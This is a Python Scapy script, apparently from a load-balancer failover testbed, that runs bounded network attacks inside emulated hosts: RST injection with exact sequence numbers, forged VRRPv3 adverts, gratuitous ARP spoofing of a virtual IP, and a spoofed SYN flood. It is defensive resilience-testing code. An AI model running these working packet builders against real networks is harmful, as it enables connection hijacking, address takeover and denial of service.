"""Packet-level attacks crafted with Scapy, run INSIDE one emulated host; each bounded, each reported.

    .venv/bin/python experiments/faults/scapy_attacks.py <attack> --iface <host>-eth0 [options] --report out.json

launched by the testbed with `testbed.net[host].popen(...)` (the host's network namespace), its pid
recorded in the run directory. Every attack stops by itself (--duration and a packet budget, both
capped by LIMITS), on SIGTERM/SIGINT it stops at once; either way it writes a JSON report of
exactly what it sent (counts, header fields, a timestamp per packet) and exits 0. It refuses to run
in the root network namespace: its packets only ever leave an emulated host's own interface.

    rst       TCP RST injection into the victim's live connections to VIP:443.
              The fabric is switched: only the victim (or a host on its path) sees its packets, so
              this runs ON the victim client as "an attacker inside the host" (root on client1):

                client1-eth0 ──sniff──▶ new connection to VIP:443 seen
                   ├─ to-client: RST spoofed VIP:443 → client, seq = the client's rcv_nxt
                   │             (the SYN-ACK's seq + 1), injected into client1's own stack
                   │             through a raw IP socket (it loops back; nothing leaves the host)
                   └─ to-server: RST as the client → VIP:443, seq = the client's snd_nxt
                                 (its first data segment's seq + length), sent out client1-eth0
              Linux accepts a RST only if seq == rcv_nxt exactly (RFC 5961; in-window but not
              exact draws a challenge ACK), so the seq is taken from the freshest segment seen.
              One RST per connection and direction; bounded by --max-rsts and --duration.

    vrrp      forged VRRPv3 adverts for --vrid, --priority (254) claiming --vip, sent to
              224.0.0.18 (IP proto 112, TTL 255, RFC 5798 checksum with the IPv4 pseudo-header)
              or unicast to --dst / --dst-mac, every --advert-int for --duration, IP source --src
              (the attacker's own address, or a spoofed load balancer's), Ethernet source the
              attacker's own MAC.

    garp      gratuitous ARP (request, sender = target = --vip, sender MAC = the attacker's) to
              broadcast, --count times every --interval: neighbours with an entry for the VIP
              replace its MAC with the attacker's.

    synflood  --count SYNs to --dst:--port at --rate per second, random source ports and ISNs
              from random.Random(--seed), source = the attacker's address (default) or drawn from
              --spoof addresses; sent as raw frames (the attacker's own conntrack never sees
              them, so its firewall drops the SYN-ACKs and the half-open connections stay).

Each attack is one function registered with @attack(name, help, duration, *options): its
command-line options are declared there, and it returns a Paced frame (sent here, paced and
bounded) or sends by itself. A new attack is that one function here plus one row in
experiments/faults/attacks.py. The packet builders (vrrp_advert, garp_frame, syn_plan/syn_frames,
rst_for/next_seq) are pure: tests call them without sending. Only the standard library and Scapy
are imported.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from scapy.layers.inet import IP, TCP, in4_chksum
from scapy.layers.l2 import ARP, Ether
from scapy.layers.vrrp import VRRPv3
from scapy.utils import checksum

# Hard caps whatever the command line says: every attack is bounded in time and packets.
LIMITS = {"duration_s": 60.0, "packets": 10000, "rate_per_s": 5000.0, "min_interval_s": 0.01}

VRRP_GROUP = "224.0.0.18"
VRRP_GROUP_MAC = "01:00:5e:00:00:12"  # 224.0.0.18 mapped onto Ethernet multicast
VRRP_PROTO = 112
BROADCAST = "ff:ff:ff:ff:ff:ff"
_TCP_AT = 14 + 20  # Ethernet header + an option-less IPv4 header


class AttackError(RuntimeError):
    """The attack cannot run as asked (bad bound, wrong namespace, unknown interface)."""


class Stopped(Exception):
    """Raised by the SIGTERM/SIGINT handler: stop sending, write the report."""


# -- pure packet builders --------------------------------------------------------------------------
def vrrp_advert(src_ip: str, vrid: int, priority: int, vips: list[str], advert_int: float,
                src_mac: str, dst_ip: str = VRRP_GROUP, dst_mac: str = VRRP_GROUP_MAC) -> Ether:
    """A VRRPv3 advertisement frame (RFC 5798), checksum computed and frozen: multicast to the
    VRRP group, or unicast (dst_ip, dst_mac) as keepalived's unicast_peer sends it.

    advert_int in seconds; the header carries centiseconds in 12 bits (0.01 .. 40.95 s)."""
    centis = int(round(advert_int * 100))
    if not 1 <= centis <= 0xFFF:
        raise AttackError(f"advert interval {advert_int} s does not fit VRRPv3 (0.01 .. 40.95 s)")
    if not 1 <= vrid <= 255 or not 1 <= priority <= 255:
        raise AttackError("vrid must be 1..255 and priority 1..255")
    frame = (Ether(src=src_mac, dst=dst_mac)
             / IP(src=src_ip, dst=dst_ip, ttl=255, proto=VRRP_PROTO)
             / VRRPv3(version=3, type=1, vrid=vrid, priority=priority, adv=centis, addrlist=list(vips)))
    return Ether(bytes(frame))  # as it will be on the wire (checksums and lengths filled in)


def vrrp_checksum_ok(frame) -> bool:
    """The VRRPv3 checksum over the IPv4 pseudo-header + VRRP message sums to zero."""
    ip = frame[IP]
    return in4_chksum(VRRP_PROTO, ip, bytes(ip.payload)) == 0


def garp_frame(vip: str, mac: str, op: str = "request") -> Ether:
    """A gratuitous ARP claiming `vip` is at `mac`: broadcast, sender IP = target IP = vip.

    "request" (what keepalived itself sends: target MAC zero) or "reply" (target MAC broadcast)."""
    if op not in ("request", "reply"):
        raise AttackError(f"garp op must be request or reply, not {op!r}")
    arp = ARP(op=1 if op == "request" else 2, hwsrc=mac, psrc=vip,
              hwdst="00:00:00:00:00:00" if op == "request" else BROADCAST, pdst=vip)
    return Ether(bytes(Ether(src=mac, dst=BROADCAST) / arp))


def syn_plan(count: int, seed: int, sources: list[str]) -> list[tuple[str, int, int]]:
    """(source address, source port, ISN) of each SYN: deterministic for a given seed."""
    rng = random.Random(seed)
    plan = []
    for _ in range(count):
        src = sources[0] if len(sources) == 1 else rng.choice(sources)
        plan.append((src, rng.randint(1024, 65535), rng.getrandbits(32)))
    return plan


def syn_frames(plan, dst: str, dport: int, src_mac: str, dst_mac: str) -> list[bytes]:
    """The wire bytes of every planned SYN (TTL 64, window 64240, MSS 1460: an ordinary SYN).

    Scapy builds one template frame per source address; each SYN is its template with the source
    port and ISN written in and the TCP checksum recomputed (Scapy's own checksum over the pseudo-
    header and segment). Building 5000 SYNs layer by layer in Scapy takes ~2 s on this VM, all of
    it before the first packet leaves; this takes ~10 ms and gives the same bytes (unit-tested)."""
    templates: dict[str, tuple[bytes, bytes]] = {}
    frames = []
    for src, sport, isn in plan:
        if src not in templates:
            frame = bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=dst, ttl=64)
                          / TCP(sport=0, dport=dport, flags="S", seq=0, window=64240, options=[("MSS", 1460)]))
            segment = frame[_TCP_AT:]
            pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(segment))
            templates[src] = (frame, pseudo)
        frame, pseudo = templates[src]
        segment = bytearray(frame[_TCP_AT:])
        struct.pack_into("!H", segment, 0, sport)
        struct.pack_into("!I", segment, 4, isn)
        struct.pack_into("!H", segment, 16, 0)
        struct.pack_into("!H", segment, 16, checksum(pseudo + bytes(segment)))
        frames.append(frame[:_TCP_AT] + bytes(segment))
    return frames


def payload_length(seg) -> int:
    """TCP payload bytes, from the IP total length (Ethernet padding of short frames excluded)."""
    ip = seg[IP]
    if ip.len is None or seg[TCP].dataofs is None:  # built here, not yet on the wire
        ip = IP(bytes(ip))
    return max(0, ip.len - ip.ihl * 4 - ip[TCP].dataofs * 4)


def segment_length(seg) -> int:
    """Sequence space a TCP segment occupies: payload bytes, +1 for SYN, +1 for FIN."""
    flags = int(seg[TCP].flags)
    return payload_length(seg) + (1 if flags & 0x02 else 0) + (1 if flags & 0x01 else 0)


def next_seq(seg) -> int:
    """The sender's next sequence number after this segment (= the receiver's rcv_nxt once it arrives)."""
    return (seg[TCP].seq + segment_length(seg)) & 0xFFFFFFFF


def rst_for(seg, target: str) -> IP:
    """A RST that resets one end of the connection `seg` belongs to, with the exact sequence number.

    target "receiver": spoof seg's sender towards seg's receiver, seq = next_seq(seg) (what the
    receiver expects next from the sender, once seg has arrived).
    target "sender": spoof seg's receiver towards seg's sender, seq = seg.ack (what the sender
    said it expects next; needs the ACK flag)."""
    ip, tcp = seg[IP], seg[TCP]
    if target == "receiver":
        return IP(src=ip.src, dst=ip.dst, ttl=64) / TCP(sport=tcp.sport, dport=tcp.dport, flags="R",
                                                        seq=next_seq(seg), window=0)
    if target == "sender":
        if not int(tcp.flags) & 0x10:
            raise AttackError("a segment without ACK does not tell what its sender expects next")
        return IP(src=ip.dst, dst=ip.src, ttl=64) / TCP(sport=tcp.dport, dport=tcp.sport, flags="R",
                                                        seq=tcp.ack, window=0)
    raise AttackError(f"rst target must be receiver or sender, not {target!r}")


class RstPlanner:
    """Decides, segment by segment, which RSTs to send: one per connection and direction.

    Connections are keyed by the victim's port. to-client: on the first VIP → victim segment of a
    connection (normally the SYN-ACK), RST spoofed from the VIP with seq = that segment's next seq.
    to-server: on the victim's first segment carrying data (its first bytes after the handshake),
    RST as the victim with seq = that segment's next seq. Segments with RST are never triggers.
    """

    def __init__(self, victim: str, vip: str, port: int, directions: tuple[str, ...]):
        self.victim, self.vip, self.port = victim, vip, port
        self.directions = directions
        self.fired: set[tuple[int, str]] = set()
        self.connections: set[int] = set()

    def decide(self, seg) -> list[tuple[str, IP]]:
        if IP not in seg or TCP not in seg:
            return []
        ip, tcp = seg[IP], seg[TCP]
        if int(tcp.flags) & 0x04:
            return []
        if ip.src == self.vip and tcp.sport == self.port and ip.dst == self.victim:
            key, from_vip = tcp.dport, True
        elif ip.src == self.victim and ip.dst == self.vip and tcp.dport == self.port:
            key, from_vip = tcp.sport, False
        else:
            return []
        self.connections.add(key)
        out = []
        if "to-client" in self.directions and from_vip and (key, "to-client") not in self.fired:
            self.fired.add((key, "to-client"))
            out.append(("to-client", rst_for(seg, "receiver")))
        if ("to-server" in self.directions and not from_vip and payload_length(seg) > 0
                and (key, "to-server") not in self.fired):
            self.fired.add((key, "to-server"))
            out.append(("to-server", rst_for(seg, "receiver")))
        return out


def rst_filter(victim: str, vip: str, port: int, directions: tuple[str, ...]) -> str:
    """The capture filter (BPF) of the rst attack: only trigger segments and RSTs reach Python.

    Python reacts per packet; letting through only the SYN-ACKs (to-client), the victim's data
    segments (to-server) and RSTs (for the report) keeps the reaction time short."""
    parts = [f"(host {vip} and port {port} and tcp[tcpflags] & tcp-rst != 0)"]
    if "to-client" in directions:
        parts.append(f"(src host {vip} and src port {port} and dst host {victim}"
                     " and tcp[tcpflags] & (tcp-syn|tcp-ack) == (tcp-syn|tcp-ack))")
    if "to-server" in directions:
        parts.append(f"(src host {victim} and dst host {vip} and dst port {port}"
                     " and (ip[2:2] - ((ip[0] & 0xf) << 2) - ((tcp[12] & 0xf0) >> 2)) > 0)")
    return "tcp and (" + " or ".join(parts) + ")"


# -- host facts --------------------------------------------------------------------------------------
def own_mac(iface: str) -> str:
    return Path(f"/sys/class/net/{iface}/address").read_text().strip()


def own_ip(iface: str) -> str:
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "dev", iface], capture_output=True, text=True,
                         check=True, timeout=5).stdout
    for line in out.splitlines():
        fields = line.split()
        if "inet" in fields:
            return fields[fields.index("inet") + 1].split("/")[0]
    raise AttackError(f"{iface} has no IPv4 address")


def neighbour_mac(address: str, iface: str) -> str | None:
    out = subprocess.run(["ip", "-4", "neigh", "show", address, "dev", iface], capture_output=True, text=True,
                         timeout=5).stdout
    fields = out.split()
    if "lladdr" in fields and not any(s in fields for s in ("FAILED", "INCOMPLETE")):
        return fields[fields.index("lladdr") + 1]
    return None


def resolve_mac(address: str, iface: str) -> tuple[str, str]:
    """(MAC, how): the kernel's neighbour entry, else one bounded ARP request of our own."""
    mac = neighbour_mac(address, iface)
    if mac:
        return mac, "neighbour table"
    from scapy.sendrecv import srp1

    answer = srp1(Ether(dst=BROADCAST, src=own_mac(iface)) / ARP(op=1, hwsrc=own_mac(iface), psrc=own_ip(iface),
                                                                pdst=address),
                  iface=iface, timeout=1, retry=2, verbose=False)
    if answer is None or ARP not in answer:
        raise AttackError(f"no ARP answer for {address} on {iface}")
    return answer[ARP].hwsrc, "arp request"


def check_namespace(iface: str) -> None:
    """Refuse the root network namespace and unknown interfaces: attacks stay inside emulated hosts."""
    try:
        if os.readlink("/proc/self/ns/net") == os.readlink("/proc/1/ns/net"):
            raise AttackError("refusing to run in the root network namespace: run inside an emulated host")
    except PermissionError:
        pass
    if not Path(f"/sys/class/net/{iface}").exists():
        raise AttackError(f"no interface {iface} in this network namespace")


# -- validators of the command line -----------------------------------------------------------------
def bounded(convert, low: float, high: float, *, above_low: bool = False):
    """An argparse type: `convert` the text, then refuse values outside [low, high] ((low, high])."""
    def check(text: str):
        value = convert(text)
        if value > high or (value <= low if above_low else value < low):
            raise argparse.ArgumentTypeError(f"must be {'above' if above_low else 'at least'} {low:g} "
                                             f"and at most {high:g}")
        return value
    return check


_duration = bounded(float, 0, LIMITS["duration_s"], above_low=True)  # seconds
_count = bounded(int, 1, LIMITS["packets"])
_interval = bounded(float, LIMITS["min_interval_s"], 40.95)  # what VRRPv3's 12-bit centiseconds hold
_rate = bounded(float, 0, LIMITS["rate_per_s"], above_low=True)  # per second


def _ipv4(text: str) -> str:
    return str(ipaddress.IPv4Address(text))


# -- the attack registry -----------------------------------------------------------------------------
@dataclass(frozen=True)
class Paced:
    """What a paced attack sends: one frame `count` times every `interval` s (the runner sends it)."""
    frame: bytes
    count: int
    interval: float
    counter: str  # the report's name for what was sent ("adverts", "garps")
    fields: dict  # the header fields, for the report


@dataclass(frozen=True)
class Builder:
    """One attack of this script: its function, its help, its default duration and its own
    command-line options (each `opt(...)`: argparse's arguments)."""
    run: Callable
    help: str
    duration: float
    options: tuple


ATTACKS: dict[str, Builder] = {}


def opt(*flags, **kwargs) -> tuple:
    return flags, kwargs


def attack(name: str, help: str, duration: float, *options: tuple):
    """Register an attack: `run(args, report)` either returns Paced (the runner sends it) or
    sends by itself. This decorator and the function are all a new attack needs here."""
    def register(run: Callable) -> Callable:
        ATTACKS[name] = Builder(run, help, duration, options)
        return run
    return register


# -- the attacks -------------------------------------------------------------------------------------
class Report:
    def __init__(self, attack: str, argv: list[str]):
        self.data = {"attack": attack, "argv": argv, "pid": os.getpid(), "started": time.time(),
                     "finished": None, "stopped_by": None, "error": None, "counts": {}, "fields": {},
                     "packets": []}

    def write(self, path: Path) -> None:
        self.data["finished"] = time.time()
        tmp = path.with_name(path.name + ".tmp")
        tmp.write_text(json.dumps(self.data, indent=1) + "\n")
        tmp.replace(path)


def announce(report: Report) -> None:
    """The attack starts now: recorded, and one JSON line on stdout the launcher waits for. The
    launcher starts this script at nice 19; from here on it runs at the normal priority (root may
    lower its niceness), so the attack itself is not slowed by the machine's load."""
    os.setpriority(os.PRIO_PROCESS, 0, 0)
    report.data["send_started"] = time.time()
    print(json.dumps({"ready": report.data["send_started"]}), flush=True)


def l2_socket(iface: str) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    return sock


def send_paced(iface: str, paced: Paced, duration: float, report: Report) -> None:
    """Send one frame `count` times every `interval` s, within `duration` s; log each send."""
    report.data["fields"] = paced.fields
    sock = l2_socket(iface)
    announce(report)
    start = time.time()
    try:
        for i in range(paced.count):
            _sleep_until(start + i * paced.interval)
            if time.time() - start > duration:
                report.data["stopped_by"] = "duration"
                break
            sock.send(paced.frame)
            report.data["packets"].append({"t": time.time()})
        else:
            report.data["stopped_by"] = "count"
    finally:
        sock.close()
        report.data["counts"] = {paced.counter: len(report.data["packets"])}


@attack("vrrp", "forged VRRPv3 adverts", 3.0,
        opt("--src", type=_ipv4, required=True, help="IP source (own or spoofed)"),
        opt("--vrid", type=int, required=True),
        opt("--priority", type=int, default=254),
        opt("--vip", type=_ipv4, action="append", required=True, help="claimed address (repeatable)"),
        opt("--advert-int", type=_interval, default=0.1, help="seconds between adverts"),
        opt("--dst", type=_ipv4, default=VRRP_GROUP, help="IP destination (default: the VRRP group)"),
        opt("--dst-mac", default=VRRP_GROUP_MAC, help="Ethernet destination (default: the group's)"))
def attack_vrrp(args, report: Report) -> Paced:
    mac = own_mac(args.iface)
    frame = vrrp_advert(args.src, args.vrid, args.priority, args.vip, args.advert_int, mac, args.dst, args.dst_mac)
    fields = {"eth_src": mac, "eth_dst": args.dst_mac, "ip_src": args.src, "ip_dst": args.dst,
              "ttl": frame[IP].ttl, "vrid": args.vrid, "priority": args.priority,
              "addrlist": list(args.vip), "adv_centiseconds": frame[VRRPv3].adv,
              "chksum": f"0x{frame[VRRPv3].chksum:04x}", "checksum_ok": vrrp_checksum_ok(frame)}
    budget = min(LIMITS["packets"], int(args.duration / args.advert_int) + 1)
    return Paced(bytes(frame), budget, args.advert_int, "adverts", fields)


@attack("garp", "gratuitous ARPs claiming the VIP", 10.0,
        opt("--vip", type=_ipv4, required=True),
        opt("--mac", help="claimed MAC (default: --iface's own)"),
        opt("--op", choices=("request", "reply"), default="request"),
        opt("--count", type=_count, default=10),
        opt("--interval", type=_interval, default=0.5))
def attack_garp(args, report: Report) -> Paced:
    mac = args.mac or own_mac(args.iface)
    frame = garp_frame(args.vip, mac, args.op)
    fields = {"eth_src": mac, "eth_dst": BROADCAST, "op": args.op, "hwsrc": mac, "psrc": args.vip,
              "pdst": args.vip, "hwdst": frame[ARP].hwdst}
    return Paced(bytes(frame), args.count, args.interval, "garps", fields)


@attack("synflood", "a bounded SYN burst", 10.0,
        opt("--dst", type=_ipv4, required=True),
        opt("--port", type=int, default=443),
        opt("--count", type=_count, default=3000),
        opt("--rate", type=_rate, default=1000.0),
        opt("--seed", type=int, required=True, help="seeds source ports, ISNs and spoofed sources"),
        opt("--spoof", type=_ipv4, action="append", help="spoofed source address (repeatable)"))
def attack_synflood(args, report: Report) -> None:
    mac = own_mac(args.iface)
    sources = args.spoof or [own_ip(args.iface)]
    dst_mac, how = resolve_mac(args.dst, args.iface)
    plan = syn_plan(args.count, args.seed, sources)
    frames = syn_frames(plan, args.dst, args.port, mac, dst_mac)
    report.data["fields"] = {"eth_src": mac, "eth_dst": dst_mac, "eth_dst_from": how, "dst": args.dst,
                             "dport": args.port, "sources": sources, "seed": args.seed, "rate_per_s": args.rate,
                             "flags": "S", "packet_columns": ["t_offset_s", "src", "sport", "isn"]}
    sock = l2_socket(args.iface)
    announce(report)
    start = time.time()
    sent = 0
    try:
        for i, wire in enumerate(frames):
            _sleep_until(start + i / args.rate)
            if time.time() - start > args.duration:
                report.data["stopped_by"] = "duration"
                break
            sock.send(wire)
            src, sport, isn = plan[i]
            report.data["packets"].append([round(time.time() - start, 6), src, sport, isn])
            sent += 1
        else:
            report.data["stopped_by"] = "count"
    finally:
        sock.close()
        ports = [p[2] for p in report.data["packets"]]
        report.data["counts"] = {"syns": sent, "distinct_sports": len(set(ports)),
                                 "achieved_rate_per_s": round(sent / max(1e-9, time.time() - start), 1)}


@attack("rst", "RST injection into the victim's connections (run on the victim)", 5.0,
        opt("--vip", type=_ipv4, required=True),
        opt("--port", type=int, default=443),
        opt("--victim", type=_ipv4, help="the victim client's address (default: --iface's)"),
        opt("--direction", choices=("to-client", "to-server", "both"), default="both"),
        opt("--max-rsts", type=_count, default=50))
def attack_rst(args, report: Report) -> None:
    from scapy.sendrecv import sniff

    victim = args.victim or own_ip(args.iface)
    directions = ("to-client", "to-server") if args.direction == "both" else (args.direction,)
    planner = RstPlanner(victim, args.vip, args.port, directions)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
    sent_keys: set[tuple[str, int, int, int]] = set()
    seen = {"segments_captured": 0, "rst_from_vip": 0, "rst_from_victim_not_ours": 0}
    report.data["fields"] = {"victim": victim, "vip": args.vip, "port": args.port, "directions": list(directions),
                             "to_client_via": "raw IP socket into the victim's own stack (loopback)",
                             "to_server_via": f"raw IP socket out of {args.iface}",
                             "capture_filter": rst_filter(victim, args.vip, args.port, directions)}
    started = time.time()

    def handle(pkt) -> None:
        if IP not in pkt or TCP not in pkt:
            return
        seen["segments_captured"] += 1
        ip, tcp = pkt[IP], pkt[TCP]
        if int(tcp.flags) & 0x04:
            key = (ip.src, tcp.sport, tcp.dport, tcp.seq)
            if ip.src == args.vip:
                seen["rst_from_vip"] += 1
            elif key not in sent_keys:
                seen["rst_from_victim_not_ours"] += 1
            return
        for direction, rst in planner.decide(pkt):
            if len(report.data["packets"]) >= args.max_rsts:
                return
            raw.sendto(bytes(rst), (rst[IP].dst, 0))
            now = time.time()
            sent_keys.add((rst[IP].src, rst[TCP].sport, rst[TCP].dport, rst[TCP].seq))
            report.data["packets"].append({
                "t": now, "direction": direction, "src": rst[IP].src, "dst": rst[IP].dst,
                "sport": rst[TCP].sport, "dport": rst[TCP].dport, "seq": rst[TCP].seq,
                "trigger": {"t": float(pkt.time), "src": ip.src, "sport": tcp.sport, "flags": str(tcp.flags),
                            "seq": tcp.seq, "ack": tcp.ack, "len": payload_length(pkt)},
                "reaction_ms": round((now - float(pkt.time)) * 1000, 3)})

    def done(_pkt) -> bool:
        return len(report.data["packets"]) >= args.max_rsts

    try:
        sniff(iface=args.iface, filter=rst_filter(victim, args.vip, args.port, directions), prn=handle, store=False,
              timeout=args.duration, stop_filter=done, started_callback=lambda: announce(report))
        report.data["stopped_by"] = "count" if done(None) else "duration"
    finally:
        raw.close()
        by_dir = {d: sum(1 for p in report.data["packets"] if p["direction"] == d) for d in directions}
        report.data["counts"] = {"rsts": len(report.data["packets"]), **{f"rsts_{d}": n for d, n in by_dir.items()},
                                 "connections_seen": len(planner.connections), **seen,
                                 "sniffed_for_s": round(time.time() - started, 3)}


def _sleep_until(when: float) -> None:
    delay = when - time.time()
    if delay > 0:
        time.sleep(delay)


# -- command line ------------------------------------------------------------------------------------
GO_TIMEOUT_S = 120.0  # a launcher that never says go: the script gives up, having sent nothing


def wait_for_go(path: Path) -> None:
    """Start-up done (interpreter, Scapy, the lazily imported parts too): wait for the launcher's
    go, a file it creates, so the attack starts when the experiment says and not a start-up later."""
    import scapy.sendrecv  # noqa: F401  (imported by sniffing and probing attacks when they start)

    deadline = time.monotonic() + GO_TIMEOUT_S
    while not path.exists():
        if time.monotonic() > deadline:
            raise TimeoutError(f"no go ({path}) within {GO_TIMEOUT_S:g} s")
        time.sleep(0.002)


def parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(description="Bounded Scapy packet attacks, run inside one emulated host.")
    sub = p.add_subparsers(dest="attack", required=True)
    for name, builder in ATTACKS.items():
        sp = sub.add_parser(name, help=builder.help)
        sp.add_argument("--iface", required=True, help="this host's interface to send/sniff on")
        sp.add_argument("--duration", type=_duration, default=builder.duration, help="hard stop, seconds")
        sp.add_argument("--report", type=Path, required=True, help="JSON report of what was sent")
        sp.add_argument("--go", type=Path, help="start up, then wait until this file exists before attacking")
        for flags, kwargs in builder.options:
            sp.add_argument(*flags, **kwargs)
    return p


def main(argv: list[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    args = parser().parse_args(argv)
    report = Report(args.attack, argv)

    def stop(signum, _frame):
        raise Stopped(signal.Signals(signum).name)

    previous = {sig: signal.signal(sig, stop) for sig in (signal.SIGTERM, signal.SIGINT)}
    code = 0
    try:
        check_namespace(args.iface)
        if args.go is not None:
            wait_for_go(args.go)
        paced = ATTACKS[args.attack].run(args, report)
        if paced is not None:
            send_paced(args.iface, paced, args.duration, report)
    except Stopped as exc:
        report.data["stopped_by"] = f"signal {exc}"
    except Exception as exc:  # reported, and the exit code says so
        report.data["stopped_by"] = "error"
        report.data["error"] = f"{type(exc).__name__}: {exc}"
        code = 1
    finally:
        for sig in previous:  # a second signal must not tear the report
            signal.signal(sig, signal.SIG_IGN)
        report.write(args.report)
        for sig, handler in previous.items():
            signal.signal(sig, handler)
    print(json.dumps({"attack": args.attack, "counts": report.data["counts"], "stopped_by": report.data["stopped_by"],
                      "error": report.data["error"]}), flush=True)
    return code


if __name__ == "__main__":
    sys.exit(main())
